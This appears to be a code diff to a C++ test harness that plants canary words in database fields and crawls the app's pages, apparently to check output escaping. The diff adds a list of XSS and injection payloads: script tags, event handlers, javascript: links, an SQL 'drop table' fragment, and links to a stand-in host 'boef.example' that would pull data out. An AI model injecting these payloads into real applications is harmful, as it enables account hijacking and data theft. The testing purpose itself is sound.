@@ -23,6 +23,14 @@ std::string word_for(std::size_t number) {
     return word;
 }
 
+/// Ways in which a text tries to be more than a text; the word stands in the middle.
+std::string attack(std::size_t number, std::string const& word) {
+    static std::vector<std::pair<std::string, std::string>> const ways{
+        {"<script>", "</script>"}, {"\"><img src=x onerror=alert('", "')>"}, {"' onmouseover='", "' x='"}, {"</textarea><svg onload='", "'>"}, {"</title><b id=\"", "\">"}, {"<!--", "-->"}, {"]]><a href=\"javascript:", "\">x</a>"}, {"</option><option selected value=\"", "\">"}, {"<iframe srcdoc=\"&lt;b&gt;", "\">"}, {"\" autofocus onfocus=\"", "\""}, {"<a href='//boef.example/", "'>x</a>"}, {"<style>*{background:url(//boef.example/", ")}</style>"}, {"<base href=\"//", "\">"}, {"<form action=\"//boef.example/", "\">"}, {"<meta http-equiv=refresh content=\"0;url=//", "\">"}, {"&#60;script&#62;\"", "\""}, {"<math><mi xlink:href=\"data:x,<script>", "</script>\">"}, {"{{#ANY}}<", ">{{/ANY}}"}, {"'; drop table people; --<", ">"}, {"<details open ontoggle='", "'>"}};
+    auto const& [before, after] = ways[number % ways.size()];
+    return before + word + after;
+}
+
 /// What a program makes of an answer that is no text.
 std::string read_by(std::string const& command, std::string const& body) {
     std::string name = "/tmp/naast-answer-XXXXXX";
@@ -68,7 +76,7 @@ std::string Holder::name() const {
     return all;
 }
 
-CanaryHouse::CanaryHouse() : clock{std::chrono::floor<std::chrono::seconds>(std::chrono::system_clock::now())} {
+CanaryHouse::CanaryHouse(bool hostile) : clock{std::chrono::floor<std::chrono::seconds>(std::chrono::system_clock::now())}, hostile_{hostile} {
     config.data = world::new_folder("canaries");
     std::ostringstream said;
     app::make_demonstration(config, 1, said);
@@ -121,10 +129,11 @@ void CanaryHouse::put(db::Write& tx, Canary canary, std::string const& sealed, s
         concerned.emplace_back(one);
         canary.persons.insert(one);
     }
-    auto marked = canary.column == "mail" ? canary.word + "." + text : text + " " + canary.word;
+    canary.payload = hostile_ && canary.column != "mail" ? attack(canaries.size(), canary.word) : canary.word;
+    auto marked = canary.column == "mail" ? canary.word + "." + text : text + " " + canary.payload;
     if (auto parts = base::unbundled(text); !parts.empty()) {
         auto const longest = std::max_element(parts.begin(), parts.end(), [](auto const& one, auto const& other) { return one.second.size() < other.second.size(); });
-        longest->second += " " + canary.word;
+        longest->second += " " + canary.payload;
         marked = base::bundled(parts);
     }
     tx.run("update " + canary.table + " set \"" + canary.column + "\" = :new where \"" + canary.column + "\" = :sealed and partnership = :partnership", program->services().keys.seal(concerned, {canary.table, canary.column, canary.row}, marked), sealed, canary.partnership);
@@ -152,7 +161,7 @@ Visitor CanaryHouse::as(Holder const& one) {
     return visitor;
 }
 
-std::set<std::string> CanaryHouse::crawl(Holder const& one, std::set<std::string>& addresses) {
+std::set<std::string> CanaryHouse::crawl(Holder const& one, std::set<std::string>& addresses, std::function<void(std::string const&, Page const&)> const& look) {
     auto visitor = as(one);
     std::set<std::string> seen, opened;
     std::deque<std::string> todo{"/", "/mijn", "/vandaag"};
@@ -162,6 +171,7 @@ std::set<std::string> CanaryHouse::crawl(Holder const& one, std::set<std::string
         if (!opened.insert(address).second) continue;
         auto const page = visitor.get(address);
         ++asked;
+        if (look) look(address, page);
         seen.merge(canaries_in(page.body));
         if (page.location.starts_with("/")) todo.push_back(page.location);
         if (page.status == 200)
